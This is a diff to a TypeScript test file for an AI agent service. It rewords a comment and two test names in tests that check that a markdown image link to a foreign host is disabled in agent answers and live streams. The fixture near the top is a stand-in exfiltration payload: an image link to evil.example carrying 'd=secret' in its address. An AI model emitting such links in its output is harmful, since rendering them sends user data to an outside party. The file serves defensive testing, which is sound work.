@@ -8,7 +8,7 @@ import { byTurn, kycTurns } from '../../model-provider/scripts.ts';
 
 const LIMIT = { timeout: 60_000 };
 
-/** A client that renders this sends a request to a foreign host, with the data in the address. */
+/** A link that makes any client that renders it send a request to a foreign host, with the data in the address. */
 const IMAGE = '![chart](https://evil.example/p.png?d=secret)';
 const ANSWER = `Here it is: ${IMAGE}`;
 const LIVE = /\]\(https|https:\/\/evil\.example/;
@@ -33,7 +33,7 @@ const provider = await useFakeProvider(openai, (asked) =>
 const service = await useService({ sandboxes: true, provider });
 
 describe('An image link to a foreign host in a model’s text', () => {
-  it('is disabled in the answer of an agent task', LIMIT, async () => {
+  it('the link is disabled in an agent task’s answer', LIMIT, async () => {
     const response = await service.request('POST', '/v1/agents/tasks', { task: 'Draw a chart.' });
     const { ledger_ref } = (await response.json()) as AgentTaskBody;
     const path = `/v1/agents/tasks/${ledger_ref}`;
@@ -49,7 +49,7 @@ describe('An image link to a foreign host in a model’s text', () => {
   });
 
   it.each(['ag-ui', 'ai-sdk', 'ledger'])(
-    'is disabled everywhere in a live %s stream and in the run',
+    'the link is disabled everywhere in a live %s stream and in the run',
     LIMIT,
     async (dialect) => {
       const stream = await openStream(`${service.url}/v1/workforce/run?stream=${dialect}`, {
